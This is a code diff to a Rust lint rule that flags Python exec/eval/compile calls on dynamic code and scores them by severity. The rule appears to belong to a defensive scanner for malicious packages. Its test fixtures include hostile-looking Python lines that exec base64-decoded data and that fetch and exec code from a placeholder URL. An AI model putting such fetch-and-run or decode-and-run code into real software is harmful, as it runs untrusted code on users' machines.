@@ -1,5 +1,6 @@
 //! WH110 dynamic-exec: exec/eval/compile of code that is not a plain literal.
 
+use ruff_python_ast::visitor::{walk_expr, Visitor};
 use ruff_python_ast::{Expr, ExprCall, Stmt};
 use ruff_text_size::Ranged;
 
@@ -23,41 +24,62 @@ pub fn is_exec(qualname: &str) -> bool {
     matches!(qualname, "exec" | "eval" | "execfile" | "compile" | "runpy.run_path" | "runpy.run_module")
 }
 
-/// True when the expression tree contains a decoding call (base64, zlib, marshal, codecs, ...).
+/// True when the expression tree contains a decoding call (base64, zlib, marshal, codecs, ...),
+/// anywhere inside it: arguments, comprehensions, subscripts.
 pub fn contains_decoding(checker: &Checker, expr: &Expr) -> Option<String> {
-    let mut stack = vec![expr];
-    let mut budget = 2_000usize;
-    while let Some(node) = stack.pop() {
-        budget = budget.checked_sub(1)?;
-        if let Expr::Call(call) = node {
-            if let Some(q) = checker.qualname(&call.func) {
-                if codec_of(&q).is_some()
-                    || matches!(q.as_str(), "marshal.loads" | "codecs.decode" | "pickle.loads")
-                    || q.ends_with(".decrypt")
-                {
-                    return Some(q);
-                }
-            }
-            stack.push(&call.func);
-            stack.extend(call.arguments.args.iter());
-        } else if let Expr::Attribute(a) = node {
-            stack.push(&a.value);
-        } else if let Expr::BinOp(b) = node {
-            stack.push(&b.left);
-            stack.push(&b.right);
-        } else if let Expr::Name(name) = node {
-            if let Some(source) = checker.scopes.taint_of(name.id.as_str()) {
-                if checker.sources.get(source).is_some_and(|s| s.kind == SourceKind::Decoded) {
-                    return Some(checker.sources[source].label.clone());
-                }
-            }
+    let mut finder = DecodingFinder { checker, found: None, budget: 4_000 };
+    finder.visit_expr(expr);
+    finder.found
+}
+
+struct DecodingFinder<'c, 's> {
+    checker: &'c Checker<'s>,
+    found: Option<String>,
+    budget: usize,
+}
+
+impl<'a> Visitor<'a> for DecodingFinder<'_, '_> {
+    fn visit_expr(&mut self, expr: &'a Expr) {
+        if self.found.is_some() || self.budget == 0 {
+            return;
         }
+        self.budget -= 1;
+        match expr {
+            Expr::Call(call) => {
+                if let Some(q) = self.checker.qualname(&call.func) {
+                    if codec_of(&q).is_some()
+                        || matches!(q.as_str(), "marshal.loads" | "codecs.decode" | "pickle.loads")
+                        || q.ends_with(".decrypt")
+                    {
+                        self.found = Some(q);
+                        return;
+                    }
+                }
+            }
+            Expr::Name(name) => {
+                if let Some(source) = self.checker.scopes.taint_of(name.id.as_str()) {
+                    if let Some(s) = self.checker.sources.get(source).filter(|s| s.kind == SourceKind::Decoded) {
+                        self.found = Some(s.label.clone());
+                        return;
+                    }
+                }
+            }
+            // Nested functions and lambdas are not evaluated by the exec call itself.
+            Expr::Lambda(_) => return,
+            _ => {}
+        }
+        walk_expr(self, expr);
     }
-    None
 }
 
 fn is_file_read(checker: &Checker, expr: &Expr) -> bool {
     let Expr::Call(call) = expr else { return false };
+    // `(root / "version.py").read_text()`: the receiver need not resolve to be a file read.
+    if let Expr::Attribute(attribute) = &*call.func {
+        if matches!(attribute.attr.as_str(), "read_text" | "read_bytes") {
+            return true;
+        }
+    }
     let Some(q) = checker.qualname(&call.func) else { return false };
     // `exec(compile(open(path).read(), path, 'exec'))` is the same idiom with a file name.
     if q == "compile" {
@@ -112,17 +134,15 @@ fn check_executed(checker: &mut Checker, range: ruff_text_size::TextRange, code:
         checker.report(&RULE, range, format!("{qualname} runs {how}"), severity, vec!["exec-constant"]);
         return;
     }
-    if let Some(source) = checker.source_in(code) {
-        if checker.sources[source].kind == SourceKind::Network {
-            let label = checker.sources[source].label.clone();
-            checker.report(&RULE, range, format!("{qualname} runs code received from the network ({label})"), 0.95, vec!["exec-remote"]);
-            return;
-        }
+    let source_kind = checker.source_in(code).map(|source| (checker.sources[source].kind, checker.sources[source].label.clone()));
+    if let Some((SourceKind::Network, label)) = &source_kind {
+        checker.report(&RULE, range, format!("{qualname} runs code received from the network ({label})"), 0.95, vec!["exec-remote"]);
+        return;
     }
     if qualname == "compile" {
         return;
     }
-    if is_file_read(checker, code) {
+    if qualname == "execfile" || qualname == "runpy.run_path" || matches!(source_kind, Some((SourceKind::FileContent, _))) || is_file_read(checker, code) {
         checker.report(&RULE, range, format!("{qualname} runs the contents of a file"), 0.05, vec!["exec-file"]);
         return;
     }
@@ -170,6 +190,12 @@ mod tests {
     }
 
     #[test]
+    fn decoding_inside_comprehensions_counts() {
+        let code = "import base64;exec(''.join([y[0] for x in [x for x in base64.b64decode(d)] for y in x]))\n";
+        assert!(max_severity("p/pkg/check.py", code, "WH110") >= 0.9);
+    }
+
+    #[test]
     fn remote_exec_is_severe() {
         let code = "import requests\nexec(requests.get('http://x.invalid/p').text)\n";
         assert!(max_severity("p/pkg/mod.py", code, "WH110") >= 0.9);
@@ -194,6 +220,8 @@ mod tests {
         let code = "exec(open('pkg/version.py').read())\n";
         assert!(max_severity("p/setup.py", code, "WH110") <= 0.05);
         let code = "exec(compile(open(vf).read(), vf, 'exec'))\n";
+        assert!(max_severity("p/setup.py", code, "WH110") <= 0.05);
+        let code = "with open('v.py') as f:\n    src = f.read()\nexec(src)\n";
         assert!(max_severity("p/setup.py", code, "WH110") <= 0.05);
         let code = "def f(expr):\n    return eval(expr, {})\n";
         assert!(max_severity("p/pkg/mod.py", code, "WH110") <= 0.05);
